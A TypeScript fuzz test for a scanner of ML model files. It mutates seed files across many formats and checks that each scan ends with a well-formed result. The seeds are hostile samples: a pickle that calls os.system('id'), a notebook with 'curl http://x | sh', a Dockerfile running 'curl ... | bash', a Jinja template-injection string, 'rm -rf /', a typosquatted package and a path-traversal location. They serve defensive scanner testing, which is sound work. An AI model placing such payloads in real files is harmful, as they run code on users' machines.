/** Bends well-formed files of every format at random, by a fixed seed: whatever comes, a scan ends with a result. */
import { describe, expect, test } from 'vitest';
import { observation } from '#contract/findings';
import { defaultLimits } from '#formats/limits';
import { concat, utf8 } from '#formats/test-files/bytes';
import { makeGguf } from '#formats/test-files/gguf';
import { block, entry, initializer, makeOnnx, node } from '#formats/test-files/onnx';
import { op, plain, reduce, stream } from '#formats/test-files/pickle';
import { makeSafetensors } from '#formats/test-files/safetensors';
import { makeZip } from '#formats/test-files/zip';
import { modelRules, scanBytes } from './test-scan.ts';

const mutations = 300;
// A scan of a few hundred bytes has no use for more; a mutation that claims more must not be believed.
const limits = { ...defaultLimits, maxSteps: 500_000, maxInflatedBytes: 64 * 1024 ** 2 };

/** mulberry32: the same mutations on every machine. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const nasty = [0, 1, 0x7f, 0x80, 0xff, 0x2e, 0x28, 0x52, 0x63, 0x95, 0x50];

function mutate(bytes: Uint8Array, next: () => number): Uint8Array {
  const pick = (limit: number) => Math.floor(next() * limit);
  let result: Uint8Array = bytes.slice();
  for (let count = 1 + pick(4); count > 0; count -= 1) {
    const at = pick(result.length);
    switch (pick(6)) {
      case 0:
        result[at] = pick(256);
        break;
      case 1:
        result[at] = nasty[pick(nasty.length)] ?? 0;
        break;
      case 2:
        result = result.slice(0, at);
        break;
      case 3:
        result = concat(result.slice(0, at), result.slice(at + 1 + pick(8)));
        break;
      case 4:
        result = concat(result.slice(0, at), result.slice(pick(result.length + 1)), result.slice(at));
        break;
      default:
        result.fill(nasty[pick(nasty.length)] ?? 0, at, at + 1 + pick(9));
    }
    if (result.length === 0) return result;
  }
  return result;
}

const attack = stream(plain({ a: [1, 'x', null] }), '0', reduce('posix', 'system', op.text('id')));
const template = "{% for m in messages %}{{ m['role'] ~ ''.__class__ }}{% endfor %}";
const seeds: readonly (readonly [string, Uint8Array])[] = [
  ['pickle', attack],
  [
    'pickle of protocol 4',
    concat(op.proto(4), op.frame(30), op.shortText('os'), '\x94', op.shortText('system'), '\x94\x93\x94', op.shortText('id'), '\x85R.'),
  ],
  ['two pickles', concat(attack, attack)],
  [
    'zip',
    makeZip(
      [
        { name: 'a/data.pkl', data: attack, deflate: true, descriptor: true },
        { name: 'a/data/0', data: new Uint8Array(40) },
        { name: 'c', data: utf8('x'), zip64: true },
      ],
      { zip64: true },
    ),
  ],
  ['zip in zip', makeZip([{ name: 'x', data: makeZip([{ name: 'y', data: attack, deflate: true }]), deflate: true }])],
  ['safetensors', makeSafetensors({ a: [2, 3], b: [4] }, { note: 'rm -rf /' })],
  [
    'onnx',
    makeOnnx(
      [
        node('MatMul'),
        node('Evil', 'com.evil', block(5, block(1, 'g'), block(6, node('Relu')))),
        initializer('w', [4, 2], 32),
        initializer('e', [4], 0, { location: '../x' }),
      ],
      entry(14, 'k', 'v'),
    ),
  ],
  [
    'gguf',
    makeGguf({
      pairs: [
        ['general.architecture', 'llama'],
        ['tokenizer.ggml.tokens', ['a', 'b']],
        ['tokenizer.chat_template', template],
      ],
      tensors: [['t', [8, 2], 0, 0]],
      data: 64,
    }),
  ],
  ['npy', concat('\x93NUMPY\x01\x00', 118, 0, "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".padEnd(117), '\n', attack)],
  ['configuration', utf8(JSON.stringify({ tokenizer_class: 'X', chat_template: template, auto_map: { a: 'b' } }))],
  ['template', utf8(template)],
  [
    'python',
    utf8(
      '# coding: latin-1\nimport os as o\nclass A:\n  def f(self, x=1):\n    with open(f"a{x!r:>{2}}", "w") as g:\n      getattr(o, "sys" + "tem")("id")\n',
    ),
  ],
  [
    'torchscript',
    utf8(
      'class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    torch.save(x, "/x")\n    return ^Op(1)(x)\n',
    ),
  ],
  [
    'notebook',
    utf8(
      JSON.stringify({
        cells: [
          {
            cell_type: 'code',
            source: ['import os\n', '!curl http://x | sh\n', 'os.system("id")'],
            outputs: [{ data: { 'text/html': ['<script>fetch(1)</script>'] } }],
          },
        ],
        metadata: {},
        nbformat: 4,
      }),
    ),
  ],
  ['requirements', utf8('torch==1.12.0\nnumppy>=1.0\n--extra-index-url https://x/simple\ngit+https://x/y.git\n')],
  ['dockerfile', utf8('FROM python:3.11\nRUN curl https://x/y.sh | bash \\\n && pip install torch numpy\n')],
];

describe.each(seeds)('%s', (_name, seed) => {
  test('is found when it is whole', () => {
    expect(scanBytes(seed).scanners.length).toBeGreaterThan(0);
  });

  test(`${mutations} mutations end with a result that fits the contract and covers every byte`, () => {
    const next = random(seed.length);
    for (let round = 0; round < mutations; round += 1) {
      const bytes = mutate(seed, next);
      const scan = scanBytes(bytes, 'mutation', limits);
      let position = 0;
      for (const range of scan.coverage) {
        expect(range.from).toBe(position);
        position = range.to;
      }
      expect(position).toBe(bytes.length);
      for (const each of scan.observations) {
        expect(observation.safeParse(each).error).toBeUndefined();
        expect(modelRules.byId.has(each.ruleId)).toBe(true);
      }
    }
  });

  test('every prefix ends with a result', () => {
    for (let length = 0; length < seed.length; length += 1)
      expect(scanBytes(seed.slice(0, length), 'prefix', limits).coverage.at(-1)?.to ?? 0).toBe(length);
  });
});
